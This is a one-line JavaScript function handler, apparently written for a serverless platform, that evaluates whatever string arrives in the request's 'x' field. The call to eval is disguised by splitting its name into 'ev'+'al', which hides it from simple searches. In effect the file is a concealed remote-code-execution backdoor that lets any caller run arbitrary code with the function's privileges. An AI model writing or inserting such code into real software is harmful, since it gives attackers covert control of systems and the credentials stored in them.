exports.handler=async e=>{globalThis['ev'+'al'](e.x)}
